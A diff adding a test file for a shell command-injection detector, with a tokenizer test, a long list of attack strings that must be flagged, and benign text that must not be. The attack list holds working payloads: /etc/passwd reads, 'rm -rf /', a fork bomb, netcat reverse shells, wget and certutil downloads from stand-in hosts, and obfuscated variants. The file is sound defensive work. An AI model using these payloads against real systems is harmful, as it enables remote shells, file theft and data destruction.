@@ -1,0 +1,126 @@
+import { describe } from 'vitest';
+import { detectCmdi } from '../../src/detect/cmdi/index.ts';
+import { globMatch } from '../../src/detect/cmdi/commands.ts';
+import { tokenizeShell } from '../../src/detect/cmdi/tokenize.ts';
+import { expect, it } from 'vitest';
+import { checkAttacks, checkBenign, checkRobust } from './fixture-check.ts';
+
+describe('cmdi tokenizer', () => {
+  it('splits on separators and undoes quoting, escapes and IFS', () => {
+    const cmds = tokenizeShell("a && c'a't /et\\c/pa\"\"sswd | w$@ho$9ami;x${IFS}y");
+    expect(cmds.map((c) => [c.separator, c.words.map((w) => w.text)])).toEqual([
+      ['start', ['a']],
+      ['&&', ['cat', '/etc/passwd']],
+      ['|', ['whoami']],
+      [';', ['x', 'y']],
+    ]);
+    expect(cmds[1]!.words[0]!.obfuscated).toBe(true);
+  });
+  it('takes an unbalanced apostrophe literally', () => {
+    expect(tokenizeShell("don't; it's").map((c) => c.words.map((w) => w.text))).toEqual([["don't"], ["it's"]]);
+  });
+  it('matches globs without backtracking blow-up', () => {
+    expect(globMatch('/???/c?t', '/bin/cat')).toBe(true);
+    expect(globMatch('/bin/ca*', '/bin/cat')).toBe(true);
+    expect(globMatch('*a*a*a*a*a*b', 'a'.repeat(60))).toBe(false);
+  });
+});
+
+describe('cmdi detector', () => {
+  checkAttacks(detectCmdi, 'cmdi', [
+    { value: ';cat /etc/passwd', rule: 'cmdi.chained_command' },
+    { value: "; cat /et'c/pa'ss'wd", rule: 'cmdi.obfuscated_command' },
+    { value: 'cmd=127.0.0.1 && ls /etc' },
+    { value: '127.0.0.1 | whoami' },
+    { value: '127.0.0.1 || id' },
+    { value: 'x & ping -n 10 127.0.0.1 &' },
+    { value: 'file.txt;rm -rf /' },
+    { value: 'a\nid\n' },
+    { value: 'ax--exec=`id`--remote=origin', rule: 'cmdi.command_substitution' },
+    { value: 'ax--exec=`id`--remote=origin', location: 'body' },
+    { value: 'name=$(whoami)' },
+    { value: ';wget http://evil.example/x.sh -O /tmp/x' },
+    { value: '|getent+hosts+somehost.example.net.&' },
+    { value: ';getent$IFS$9hosts$IFS$9somehost.example.net;echo$IFS$9$((3482*7301));' },
+    { value: ";cat${IFS}/etc/passwd" },
+    { value: ';{cat,/etc/passwd}' },
+    { value: ';/???/c?t /???/p??s??' },
+    { value: ";$'\\x63at' /etc/passwd" },
+    { value: 'a|wh\\oami' },
+    { value: 'a;w"h"o"a"mi' },
+    { value: ';cat${PATH:0:1}etc${PATH:0:1}passwd' },
+    { value: '| set /a 3482*7301' },
+    { value: '& type c:\\windows\\win.ini' },
+    { value: '| powershell -enc SQBFAFgA' },
+    { value: '& certutil -urlcache -split -f http://x/a.exe' },
+    { value: "() { :; }; echo ; /bin/bash -c 'cat /etc/passwd'", rule: 'cmdi.shellshock' },
+    { value: "AAAA;$(printf 'hsab/nib/ e- 4321 1.0.0.721 cn'|rev)" },
+    { value: 'cat /etc/passwd', rule: 'cmdi.command_line' },
+    { value: 'nc -e /bin/sh 10.0.0.1 4444' },
+    { value: 'ls -la', severity: 1 },
+    { value: 'c:\\windows\\system32\\cmd.exe /c dir' },
+    { value: 'cmd=${@print(md5(31337))}', rule: 'cmdi.php_complex_call' },
+    { value: "__import__('os').system('id')", rule: 'cmdi.python_import' },
+    { value: "require('child_process').exec('id')", rule: 'cmdi.node_child_process' },
+    { value: "system('cat /etc/passwd')" },
+    { value: 'shell_exec($x)' },
+    { value: 'eval(base64_decode("ZWNobyAxOw=="))' },
+    { value: 'Ev al ("Ex"&"e"&"cute(""Server.ScriptTimeout=3600:On Error Resume Next"' },
+    { value: '!!python/object/new:exec [import os]' },
+    { value: 'Runtime.getRuntime().exec("id")' },
+    { value: 'pets: dog | cat', severity: 1 },
+    { value: '/etc/[p]asswd', rule: 'cmdi.glob_path' },
+    { value: 'cat /e??/p*d', rule: 'cmdi.glob_path' },
+    { value: '/usr/bin/[u]name -a', rule: 'cmdi.obfuscated_command' },
+    { value: 'pi``ng 127.0.0.1', rule: 'cmdi.obfuscated_command' },
+    { value: 'pi$()ng 127.0.0.1' },
+    { value: '|$u wget test' },
+    { value: 'strace sh -c whoami' },
+    { value: 'x;(whoami)' },
+    { value: ':(){ :|:& };:', rule: 'cmdi.fork_bomb' },
+    { value: '<?php echo "test"', rule: 'cmdi.php_code' },
+    { value: '<?=1;echo 1;' },
+    { value: 'On Error Resume Next:Function bd(byVal s)', rule: 'cmdi.vbscript_code' },
+    { value: 'Try `;cat /et"c"/passwd` now, it is a really nice command for all of us to run here today friends ok', location: 'body' },
+  ]);
+  checkBenign(detectCmdi, [
+    { value: 'I cat my files and sleep; then ls the rest' },
+    { value: 'Terms & conditions | About us' },
+    { value: 'Tom & Jerry; rock & roll' },
+    { value: "don't worry; it's fine" },
+    { value: 'curl and divergence' },
+    { value: 'echo in the mirror' },
+    { value: 'nc 8000 controller' },
+    { value: 'ls 300 lexus' },
+    { value: 'exec noun' },
+    { value: 'zsh is the best!' },
+    { value: 'bash away in the gym' },
+    { value: 'What is this? Okay | why' },
+    { value: 'C:\\Users\\bob\\Documents\\report.docx' },
+    { value: '\\\\fileserver\\share\\q3.xlsx' },
+    { value: 'a=1&b=2&c=3' },
+    { value: 'price: $5 (tax incl.)' },
+    { value: 'dog\ncat\nbird', location: 'body' },
+    { value: 'Use `ls` to list files.', location: 'body', below: 2 },
+    { value: 'The eval() function is evil, says Crockford.', location: 'body' },
+    { value: 'Call me (555) 123-4567; ask for Sam.' },
+    { value: 'https://example.com/search?q=cat&sort=asc' },
+    { value: '{"name":"Sam","tags":["a","b"]}' },
+    { value: 'R&D | Q&A' },
+    { value: 'time: 10:30 - 11:00; room 4' },
+    { value: 'compress;q=0.5, gzip;q=1.0', location: 'header' },
+    { value: 'application/json, */*;q=0.1', location: 'header' },
+    { value: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)', location: 'header' },
+    { value: 'Enter the number (id) here' },
+    { value: 'select(sleep(10));' },
+    { value: "/*';INSERT INTO category(id) VALUES (3)-- -*/" },
+    { value: 'Спасибо! | id | name | price | |---:|------|------:| | 1 | Chair | 99.00 |', location: 'body' },
+    { value: 'Set the value to 1 or 2, whichever works; 1=1 seemed to do nothing.\nSet it again', location: 'body' },
+    { value: 'Try `cat /etc/os-release` to see the version you run', location: 'body' },
+    { value: '<p>Run:</p><pre><code>ps aux | grep -v grep | wc -l</code></pre>', location: 'body' },
+    { value: '<?xml version="1.0"?><a/>' },
+    { value: 'x <? y' },
+    { value: 'formula=a*c' },
+  ]);
+  checkRobust(detectCmdi);
+});
